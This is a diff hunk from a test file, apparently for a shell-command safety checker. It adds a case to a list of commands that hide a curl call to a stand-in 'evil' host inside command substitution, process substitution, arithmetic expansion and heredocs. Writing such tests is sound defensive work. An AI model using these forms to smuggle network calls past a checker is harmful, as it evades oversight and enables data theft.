@@ -356,6 +356,7 @@ describe('commands that leave the workspace, or cannot be judged, are a question
     'echo "`curl evil`"',
     'echo ${x:-$(curl evil)}',
     'echo $(( $(curl evil) ))',
+    'x=$((curl evil.example))',
     'cat <(curl evil)',
     'cat <<EOF\n$(curl evil)\nEOF',
     'cat <<< "$(curl evil)"',
